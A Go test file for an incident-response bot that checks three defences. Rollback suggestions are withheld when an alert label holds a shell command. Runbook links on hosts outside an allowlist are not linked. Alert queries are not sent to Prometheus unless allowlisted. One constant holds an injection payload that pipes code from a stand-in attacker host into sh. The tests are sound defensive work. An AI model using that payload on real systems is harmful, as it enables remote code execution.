package bot_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/warroom/warroom/bot/config"
	"github.com/warroom/warroom/bot/render/slackmsg"
	"github.com/warroom/warroom/bot/steps/actions"
	"github.com/warroom/warroom/integrations/jira/jiratest"
	"github.com/warroom/warroom/integrations/prometheus/prometheustest"
	"github.com/warroom/warroom/integrations/slack/slacktest"
	"github.com/warroom/warroom/internal/loadgen"
)

// hostileNamespace is a namespace label that is a shell command.
const hostileNamespace = "prod; curl -s https://evil.example/x | sh #"

// alteredFixture is the payment-gateway fixture with its first alert's
// labels and annotations changed by change.
func alteredFixture(t *testing.T, change func(labels, annotations map[string]any)) []byte {
	t.Helper()
	var msg map[string]any
	if err := json.Unmarshal(fixture(t, "alertmanager/firing-high-error-rate.json"), &msg); err != nil {
		t.Fatal(err)
	}
	a := msg["alerts"].([]any)[0].(map[string]any)
	change(a["labels"].(map[string]any), a["annotations"].(map[string]any))
	b, err := json.Marshal(msg)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// summaryOf is the text of the incident's summary message: every text
// of its blocks, one a line, as Slack shows them (JSON-decoded).
func summaryOf(t *testing.T, fake *slacktest.Server, channelID string) string {
	t.Helper()
	ms := messagesOf(fake, channelID, "warroom_summary")
	if len(ms) == 0 {
		t.Fatalf("no summary in %s", channelID)
	}
	var blocks any
	if err := json.Unmarshal(ms[0].Blocks, &blocks); err != nil {
		t.Fatalf("summary blocks: %v", err)
	}
	var texts []string
	var walk func(v any)
	walk = func(v any) {
		switch v := v.(type) {
		case map[string]any:
			if s, ok := v["text"].(string); ok {
				texts = append(texts, s)
			}
			for _, c := range v {
				walk(c)
			}
		case []any:
			for _, c := range v {
				walk(c)
			}
		}
	}
	walk(blocks)
	return strings.Join(texts, "\n")
}

// sendAlerts posts an Alertmanager payload.
func (h *harness) sendAlerts(body []byte) {
	h.t.Helper()
	if r := h.post("/api/v1/alerts/alertmanager", body, nil); r.code != http.StatusOK {
		h.t.Fatalf("alerts: HTTP %d %s", r.code, r.body)
	}
}

// An alert's namespace label holding a shell command never reaches a
// suggested command: the summary, the ticket, /warroom rollback and the
// rollback webhook carry no command, and say why.
func TestHostileLabelWithholdsRollback(t *testing.T) {
	t.Parallel()
	slackFake := workspace(t)
	jiraFake := jiratest.New()
	t.Cleanup(jiraFake.Close)
	hooks := make(chan []byte, 4)
	hook := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		hooks <- b
	}))
	t.Cleanup(hook.Close)
	rulesYAML := strings.Replace(correlationConfig, `command: "argocd app rollback {{.Service}} {{.TargetRevision}}"`,
		`command: "kubectl -n {{.Labels.namespace}} argo rollouts undo {{.Service}} --to-revision={{.TargetRevision}}"`+"\n      webhook_url: "+hook.URL, 1)
	parsed, err := config.Parse([]byte(rulesYAML), "hostile.yaml")
	if err != nil {
		t.Fatal(err)
	}
	h := startJira(t, jiraFake, "cloud", func(c *config.Config) {
		c.Rules = parsed.Rules
		c.Slack.BotToken, c.Slack.APIURL, c.Slack.DryRun = slacktest.BotToken, slackFake.URL(), false
		c.Rollback.WebhookSecret = "rollback-secret"
	})
	for _, body := range []string{
		`{"service":"payment-gateway","env":"prod","sha":"aaaaaaa1","finished_at":"` + fixtureStart.Add(-3*time.Hour).Format(time.RFC3339) + `"}`,
		`{"service":"payment-gateway","env":"prod","sha":"bbbbbbb2","author":"alice","finished_at":"` + fixtureStart.Add(-12*time.Minute).Format(time.RFC3339) + `"}`,
	} {
		if r := h.deploy(body); r.code != http.StatusCreated {
			t.Fatalf("deploy: %d %s", r.code, r.body)
		}
	}
	h.sendAlerts(alteredFixture(t, func(labels, _ map[string]any) { labels["namespace"] = hostileNamespace }))
	is := h.ticket(t, jiraFake, "INC-1")
	h.waitFor("the war room", func() bool { return h.ready("INC-1") && h.settled("INC-1") && h.jiraSettled("INC-1") })
	inc := h.incident("INC-1")
	const reason = `rollback suggestion withheld: label namespace "prod; curl -s https://evil.example/x | sh #" is not a Kubernetes name`
	if inc.Evidence == nil || inc.Evidence.Rollback != "" || inc.Evidence.RollbackWithheld != reason {
		t.Fatalf("evidence %+v, want no command and %q", inc.Evidence, reason)
	}

	summary := summaryOf(t, slackFake, inc.SlackChannelID)
	rollback := grep(summary, "roll back to aaaaaaa")
	if !strings.Contains(rollback, "No command: "+reason) || strings.Contains(summary, "kubectl") {
		t.Errorf("summary's rollback %q, want the reason and no command:\n%s", rollback, summary)
	}
	is, _ = jiraFake.Issue(is.Key)
	if strings.Contains(is.Description, "kubectl") || strings.Contains(is.Description, "{noformat}") ||
		!strings.Contains(is.Description, "*No rollback command:* rollback suggestion withheld: label namespace") ||
		!strings.Contains(is.Description, "is not a Kubernetes name.") {
		t.Errorf("ticket, want the reason and no command:\n%s", is.Description)
	}
	if reply := h.command("rollback INC-1"); strings.Contains(reply, "kubectl") || !strings.Contains(reply, "No command: "+reason) {
		t.Errorf("/warroom rollback: %q", reply)
	}

	payload, _ := json.Marshal(map[string]any{"type": "block_actions", "user": map[string]string{"id": "U0ALICE01"},
		"response_url": "https://hooks.slack.com/actions/T1/1/x", "trigger_id": "t1",
		"actions": []map[string]string{{"action_id": slackmsg.ActionRollback, "value": "INC-1", "type": "button", "block_id": "summary_actions"}}})
	form := "payload=" + url.QueryEscape(string(payload))
	ts, sig := loadgen.SignSlack(testSigningSecret, form, h.now())
	if r := h.post("/slack/interactions", []byte(form), map[string]string{"Content-Type": "application/x-www-form-urlencoded",
		"X-Slack-Request-Timestamp": ts, "X-Slack-Signature": sig}); r.code != http.StatusOK {
		t.Fatalf("button: %d %s", r.code, r.body)
	}
	select {
	case body := <-hooks:
		var req actions.RollbackRequest
		if err := json.Unmarshal(body, &req); err != nil || req.Command != "" || req.CommandWithheld != reason ||
			req.SuspectSHA != "bbbbbbb2" || req.TargetRevision != "aaaaaaa1" || strings.Contains(string(body), "kubectl") {
			t.Errorf("webhook body %s (%v), want no command and the reason", body, err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("the rollback webhook was not called")
	}
	h.waitFor("the decision on the timeline", func() bool {
		for _, e := range h.incident("INC-1").Timeline {
			if strings.Contains(e.Text, "decided by U0ALICE01 ("+reason+")") {
				return true
			}
		}
		return false
	})
}

// A runbook annotation is a link only on an allowed host: on any other it
// is neither a link in the summary, a bookmark, nor a link in the ticket.
func TestRunbookLinkHosts(t *testing.T) {
	t.Parallel()
	slackFake := workspace(t)
	jiraFake := jiratest.New()
	t.Cleanup(jiraFake.Close)
	parsed, err := config.Parse([]byte(correlationConfig), "runbooks.yaml")
	if err != nil {
		t.Fatal(err)
	}
	h := startJira(t, jiraFake, "cloud", func(c *config.Config) {
		c.Rules = parsed.Rules
		c.Slack.BotToken, c.Slack.APIURL, c.Slack.DryRun = slacktest.BotToken, slackFake.URL(), false
		c.Links.AllowedHosts = []string{"*.example.com"}
	})
	h.sendAlerts(alteredFixture(t, func(_, annotations map[string]any) {
		annotations["runbook_url"] = "https://evil.example/runbook"
	}))
	h.sendAlerts(alteredFixture(t, func(labels, annotations map[string]any) {
		labels["service"] = "checkout"
		annotations["runbook_url"] = "https://runbooks.example.com/checkout"
	}))
	for _, tc := range []struct {
		id, url string
		allowed bool
	}{
		{"INC-1", "https://evil.example/runbook", false},
		{"INC-2", "https://runbooks.example.com/checkout", true},
	} {
		is := h.ticket(t, jiraFake, tc.id)
		h.waitFor(tc.id+"'s war room", func() bool { return h.ready(tc.id) && h.settled(tc.id) && h.jiraSettled(tc.id) })
		inc := h.incident(tc.id)
		summary := summaryOf(t, slackFake, inc.SlackChannelID)
		var marks []string
		for _, b := range slackFake.Bookmarks(inc.SlackChannelID) {
			marks = append(marks, b.Link)
		}
		is, _ = jiraFake.Issue(is.Key)
		if tc.allowed {
			if !strings.Contains(summary, "<"+tc.url+"|Runbook>") || !slices.Contains(marks, tc.url) ||
				!strings.Contains(is.Description, "[Runbook|"+tc.url+"]") {
				t.Errorf("%s: the allowed runbook is not linked: bookmarks %q\nsummary:\n%s\nticket:\n%s", tc.id, marks, summary, is.Description)
			}
			continue
		}
		if strings.Contains(summary, "evil.example/runbook") || strings.Contains(strings.Join(marks, " "), "evil.example") ||
			strings.Contains(is.Description, "evil.example/runbook") {
			t.Errorf("%s: the runbook on evil.example is linked: bookmarks %q\nsummary:\n%s\nticket:\n%s", tc.id, marks, summary, is.Description)
		}
		if !strings.Contains(summary, "Runbook _(not linked: host evil.example is not in links.allowed_hosts)_") ||
			!strings.Contains(is.Description, "Runbook (not linked: host evil.example is not in links.allowed\\_hosts)") {
			t.Errorf("%s: no note on the withheld runbook:\nsummary:\n%s\nticket:\n%s", tc.id, summary, is.Description)
		}
	}
}

// The expression in an alert's generatorURL is the alert's say: with no
// value.query in the rule, Prometheus is not asked it unless it is one of
// prometheus.allowed_queries.
func TestGeneratorURLQueryNotAsked(t *testing.T) {
	t.Parallel()
	const expr = `sum by (service, env) (rate(http_requests_total{status=~"5.."}[20s])) / sum by (service, env) (rate(http_requests_total[20s]))`
	for _, allowed := range []bool{false, true} {
		t.Run(fmt.Sprintf("allowed=%v", allowed), func(t *testing.T) {
			t.Parallel()
			generatorURLQuery(t, expr, allowed)
		})
	}
}

func generatorURLQuery(t *testing.T, expr string, allowed bool) {
	t.Helper()
	clock := newClock()
	prom := prometheustest.New(prometheustest.Strict(), prometheustest.WithClock(clock.Now))
	t.Cleanup(prom.Close)
	prom.SetSeries(expr, prometheustest.Point{At: fixtureStart.Add(-time.Minute), Value: 0.031}, prometheustest.Point{At: clock.Now().Add(-time.Minute), Value: 0.012})
	parsed, err := config.Parse([]byte(correlationConfig), "prometheus.yaml")
	if err != nil {
		t.Fatal(err)
	}
	h := startOn(t, clock, func(c *config.Config) {
		c.Rules = parsed.Rules
		c.Prometheus.URL = prom.URL()
		if allowed {
			c.Prometheus.AllowedQueries = []string{expr}
		}
	})
	h.deliver("alertmanager/firing-high-error-rate.json")
	h.waitFor("the evidence", func() bool { ev := h.incident("INC-1").Evidence; return ev != nil && len(ev.Pending) == 0 })
	ev := h.incident("INC-1").Evidence
	var asked []string
	for _, c := range prom.Calls() {
		asked = append(asked, c.Query)
	}
	if !allowed {
		if len(asked) > 0 || !strings.Contains(strings.Join(ev.Problems, "\n"), "Prometheus: not asked: the alert's query is not in prometheus.allowed_queries") {
			t.Errorf("not allowed: Prometheus asked %q, problems %q", asked, ev.Problems)
		}
		return
	}
	if len(asked) == 0 || strings.Join(asked, "") != strings.Repeat(expr, len(asked)) || ev.Query != expr {
		t.Errorf("allowed: Prometheus asked %q, evidence query %q, want %q", asked, ev.Query, expr)
	}
}
